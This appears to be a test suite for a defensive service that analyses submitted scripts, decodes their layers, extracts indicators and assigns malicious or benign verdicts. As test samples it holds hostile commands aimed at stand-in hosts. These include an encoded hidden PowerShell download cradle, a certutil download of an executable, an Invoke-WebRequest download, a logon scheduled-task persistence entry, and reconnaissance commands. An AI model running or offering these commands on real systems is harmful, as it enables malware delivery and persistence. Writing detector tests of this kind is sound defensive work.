import { createHash, randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import pg from 'pg';
import { Topic, type Envelope, type ScriptSubmitted } from '@attest/contracts';
import { eventually } from '@attest/testing';
import { startScriptAnalyzer, type Service } from './service.js';

interface Found {
  scriptAnalysis: { sha256: string; analyzed: boolean; verdict: string | null; language: string | null; incidentIds: string[]; layers: { text: string; sha256: string }[]; indicators: { value: string; hunt: string }[]; techniques: { id: string }[]; card: { version: number; title: string; statements: { text: string; facts: string[] }[]; provenance: { dropped: number } } | null } | null;
}

const details = 'query ($sha256: ID!) { scriptAnalysis(sha256: $sha256) { sha256 analyzed verdict language incidentIds layers { text sha256 } indicators { value hunt } techniques { id } card { version title statements { text facts } provenance { dropped } } } }';
const hashOf = (text: string): string => createHash('sha256').update(text).digest('hex');
const submitted = (text: string, incidentId?: string, tenant = 'default'): Envelope<ScriptSubmitted> => ({
  id: randomUUID(),
  type: Topic.ScriptSubmitted,
  version: 1,
  tenant,
  key: hashOf(text),
  occurredAt: new Date().toISOString(),
  payload: { sha256: hashOf(text), content: gzipSync(text).toString('base64'), size: Buffer.byteLength(text), ...(incidentId === undefined ? {} : { incidentId }) },
});

describe('the script analyzer', () => {
  let service: Service;

  beforeAll(async () => {
    service = await startScriptAnalyzer();
  });
  afterAll(() => service.close());

  async function analysisOf(sha256: string, tenant?: string): Promise<NonNullable<Found['scriptAnalysis']>> {
    let found: Found['scriptAnalysis'] = null;
    await eventually(`an analysis of ${sha256}`, async () => {
      found = (await service.ask<Found>(details, { sha256 }, tenant)).data?.scriptAnalysis ?? null;
      return found?.analyzed === true;
    });
    return found as unknown as NonNullable<Found['scriptAnalysis']>;
  }

  it('analyses what a person submits, and tells it once', async () => {
    const inner = "IEX (New-Object Net.WebClient).DownloadString('http://a.example.test/p.ps1')";
    const text = `powershell -nop -w hidden -enc ${Buffer.from(inner, 'utf16le').toString('base64')}`;
    const { data, errors } = await service.ask<{ submitScript: { sha256: string } }>('mutation ($text: String) { submitScript(text: $text) { sha256 } }', { text });
    expect(errors).toBeUndefined();
    expect(data?.submitScript.sha256).toBe(hashOf(text));
    const analysis = await analysisOf(hashOf(text));
    expect(analysis).toMatchObject({ verdict: 'MALICIOUS', language: 'POWERSHELL', incidentIds: [], card: { version: 1, provenance: { dropped: 0 } } });
    expect(analysis.layers.map((layer) => layer.sha256)).toContain(hashOf(inner));
    expect(analysis.indicators.map(({ value }) => value)).toContain('http://a.example.test/p.ps1');
    for (const statement of analysis.card?.statements ?? []) expect(statement.facts.length).toBeGreaterThan(0);
    await service.ask('mutation ($text: String) { submitScript(text: $text) { sha256 } }', { text });
    await eventually('the announcement', () => service.analyzed.some(({ key }) => key === hashOf(text)) && service.cards.some(({ key }) => key === hashOf(text)));
    const told = service.analyzed.filter(({ key }) => key === hashOf(text));
    expect(told.map(({ payload }) => payload.decoded)).toEqual([inner]);
    expect(service.cards.filter(({ key }) => key === hashOf(text))).toHaveLength(1);
  });

  it('stores one analysis of a script that several incidents hold, links them all and answers each', async () => {
    const text = 'certutil -urlcache -split -f http://b.example.test/x.exe C:\\Users\\Public\\x.exe';
    const events = ['901', '902', '903'].map((id) => submitted(text, id));
    await service.publish([...events, ...events]);
    await eventually('three answers', () => service.analyzed.filter(({ key }) => key === hashOf(text)).length >= 3);
    const analysis = await analysisOf(hashOf(text));
    expect(analysis).toMatchObject({ incidentIds: ['901', '902', '903'], card: { version: 1 } });
    await new Promise((done) => setTimeout(done, 500));
    expect(service.analyzed.filter(({ key }) => key === hashOf(text)).map(({ payload }) => payload.incidentId).sort()).toEqual(['901', '902', '903']);
    expect(service.cards.filter(({ key }) => key === hashOf(text))).toHaveLength(1);
  });

  it('analyses again when asked, in another language too', async () => {
    const text = 'echo one & echo two';
    await service.ask('mutation ($text: String) { submitScript(text: $text, language: BATCH) { sha256 } }', { text });
    expect(await analysisOf(hashOf(text))).toMatchObject({ language: 'BATCH', card: { version: 1 } });
    const { errors } = await service.ask('mutation ($sha256: ID!) { analyzeScriptAgain(sha256: $sha256, language: BASH) { sha256 } }', { sha256: hashOf(text) });
    expect(errors).toBeUndefined();
    await eventually('the second version', async () => (await analysisOf(hashOf(text))).card?.version === 2);
    expect(await analysisOf(hashOf(text))).toMatchObject({ language: 'BASH' });
  });

  it('keeps the language somebody named until another is asked for, or finding out is', async () => {
    const text = 'echo three & echo four';
    const again = (rest: string): Promise<unknown> => service.ask(`mutation ($sha256: ID!) { analyzeScriptAgain(sha256: $sha256${rest}) { sha256 } }`, { sha256: hashOf(text) });
    const version = (wanted: number): Promise<void> => eventually(`version ${wanted}`, async () => (await analysisOf(hashOf(text))).card?.version === wanted);
    await service.ask('mutation ($text: String) { submitScript(text: $text, language: VBSCRIPT, fileName: "x.cmd") { sha256 } }', { text });
    await version(1);
    await again('');
    await version(2);
    expect(await analysisOf(hashOf(text))).toMatchObject({ language: 'VBSCRIPT' });
    await again(', language: UNKNOWN');
    await version(3);
    expect(await analysisOf(hashOf(text))).toMatchObject({ language: 'BATCH' });
  });

  it('finds scripts by their text, decoded text, indicators (defanged too), file name and hash, and by time', async () => {
    const inner = 'Invoke-WebRequest http://needle-host.example.test/a?x=100%_ -OutFile C:\\Haystack\\b.exe';
    const text = `powershell -enc ${Buffer.from(inner, 'utf16le').toString('base64')}`;
    await service.ask('mutation ($text: String) { submitScript(text: $text, fileName: "Straw.ps1") { sha256 } }', { text });
    await analysisOf(hashOf(text));
    const found = async (filter: Record<string, unknown>): Promise<boolean> => {
      const { data, errors } = await service.ask<{ scriptAnalyses: { nodes: { sha256: string }[] } }>('query ($filter: ScriptFilterInput) { scriptAnalyses(first: 100, filter: $filter) { nodes { sha256 } } }', { filter });
      expect(errors).toBeUndefined();
      return data?.scriptAnalyses.nodes.some(({ sha256 }) => sha256 === hashOf(text)) ?? false;
    };
    for (const wanted of ['powershell -ENC', 'haystack', 'hxxp://needle-host[.]example[.]test', 'straw.ps1', hashOf(text).slice(0, 20).toUpperCase(), 'x=100%_']) expect([wanted, await found({ text: wanted })]).toEqual([wanted, true]);
    for (const wanted of ['needle%host', 'x=100__', "'; --", 'needle\0host']) expect([wanted, await found({ text: wanted })]).toEqual([wanted, false]);
    const [before, after] = [new Date(Date.now() - 60_000).toISOString(), new Date(Date.now() + 60_000).toISOString()];
    expect([await found({ submittedAfter: before }), await found({ submittedAfter: after }), await found({ submittedBefore: before }), await found({ submittedBefore: after, text: 'needle' })]).toEqual([true, false, false, true]);
    expect(await found({ incidentId: '1\u0000' })).toBe(false);
  });

  it('lists by verdict, language, technique and incident, a page at a time', async () => {
    await service.publish(Array.from({ length: 5 }, (_, i) => submitted(`ping -n ${i + 1} c.example.test`, '950')));
    const list = async (filter: string, rest = 'first: 100'): Promise<{ totalCount: number; nodes: { sha256: string; techniqueIds: string[] }[]; pageInfo: { hasNextPage: boolean; endCursor: string } }> => (await service.ask<{ scriptAnalyses: never }>(`{ scriptAnalyses(${rest}, filter: {${filter}}) { totalCount nodes { sha256 techniqueIds } pageInfo { hasNextPage endCursor } } }`)).data?.scriptAnalyses as never;
    await eventually('five', async () => (await list('incidentId: "950"')).totalCount === 5 && (await list('verdict: BENIGN, incidentId: "950"')).totalCount === 5);
    const first = await list('incidentId: "950"', 'first: 3');
    expect(first).toMatchObject({ totalCount: 5, pageInfo: { hasNextPage: true } });
    const second = await list('incidentId: "950"', `first: 3, after: "${first.pageInfo.endCursor}"`);
    expect(second.pageInfo.hasNextPage).toBe(false);
    expect(new Set([...first.nodes, ...second.nodes].map(({ sha256 }) => sha256)).size).toBe(5);
    for (const { techniqueIds } of (await list('technique: "T1105"')).nodes) expect(techniqueIds.some((id) => id.startsWith('T1105'))).toBe(true);
    expect((await list('verdict: MALICIOUS, language: BATCH')).totalCount).toBeLessThan((await list('language: BATCH')).totalCount + 1);
  });

  it.each([
    ['nothing', '{}', 'EMPTY_SCRIPT', 'mutation { submitScript(text: "") { sha256 } }'],
    ['both forms', '{}', 'BAD_INPUT', 'mutation { submitScript(text: "a", base64: "YQ==") { sha256 } }'],
    ['neither form', '{}', 'BAD_INPUT', 'mutation { submitScript { sha256 } }'],
    ['an unknown hash', '{}', 'SCRIPT_UNKNOWN', `mutation { analyzeScriptAgain(sha256: "${'0'.repeat(64)}") { sha256 } }`],
    ['too long a page', '{}', 'BAD_INPUT', '{ scriptAnalyses(first: 101) { totalCount } }'],
  ])('refuses %s with one sentence', async (_what, _variables, code, query) => {
    const { errors } = await service.ask(query);
    expect(errors?.[0]).toMatchObject({ extensions: { code } });
    expect(errors?.[0]?.message).toMatch(/\.$/);
  });

  it('stores what quotes a NUL or half a character', async () => {
    for (const odd of ['\0', '\ud83d']) {
      const text = `IEX (New-Object Net.WebClient).DownloadString("http://odd${odd}host.example.test/p.ps1"); schtasks /create /tn "odd${odd}task" /tr C:\\x.exe /sc onlogon`;
      const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
      const { data, errors } = await service.ask<{ submitScript: { sha256: string } }>('mutation ($base64: String) { submitScript(base64: $base64, fileName: "a\\u0000b.ps1") { sha256 } }', { base64: bytes.toString('base64') });
      expect(errors).toBeUndefined();
      expect((await analysisOf(data?.submitScript.sha256 ?? '')).card?.statements.length).toBeGreaterThan(0);
    }
  });

  it('loses no script while its tables cannot be read', async () => {
    const admin = new pg.Client({ connectionString: service.databaseUrl });
    await admin.connect();
    await admin.query('ALTER TABLE script_analyzer.script RENAME TO script_away');
    const text = 'net user /domain & echo lost-and-found';
    await service.publish([submitted(text, '77')]);
    await new Promise((done) => setTimeout(done, 600));
    await admin.query('ALTER TABLE script_analyzer.script_away RENAME TO script');
    await admin.end();
    expect(await analysisOf(hashOf(text))).toMatchObject({ incidentIds: ['77'], card: { version: 1 } });
  });

  it('names a script of evidence that has not arrived', async () => {
    const { data, errors } = await service.ask<{ _entities: unknown[] }>('query ($of: [_Any!]!) { _entities(representations: $of) { ... on ScriptAnalysis { sha256 analyzed submittedAt facts { id } card { title } } } }', { of: [{ __typename: 'ScriptAnalysis', sha256: 'f'.repeat(64) }] });
    expect(errors).toBeUndefined();
    expect(data?._entities).toEqual([{ sha256: 'f'.repeat(64), analyzed: false, submittedAt: null, facts: [], card: null }]);
  });

  it('keeps tenants apart', async () => {
    const text = 'whoami /all';
    await service.publish([submitted(text, '1', 'other')]);
    await analysisOf(hashOf(text), 'other');
    expect((await service.ask<Found>(details, { sha256: hashOf(text) })).data?.scriptAnalysis).toBeNull();
  });

  it('answers for bytes that are no text, and for a script that takes all it can', async () => {
    const noise = Buffer.from(Array.from({ length: 3_000 }, (_, i) => (i * 7_919 + i * i) % 256));
    const { data } = await service.ask<{ submitScript: { sha256: string } }>('mutation ($base64: String) { submitScript(base64: $base64) { sha256 } }', { base64: noise.toString('base64') });
    expect(await analysisOf(data?.submitScript.sha256 ?? '')).toMatchObject({ verdict: 'UNKNOWN' });
    const greedy = `$a='aaaa';${'$a=$a+$a;'.repeat(40)}`;
    await service.publish([submitted(greedy)]);
    expect((await analysisOf(hashOf(greedy))).layers.length).toBeGreaterThan(0);
  });
});
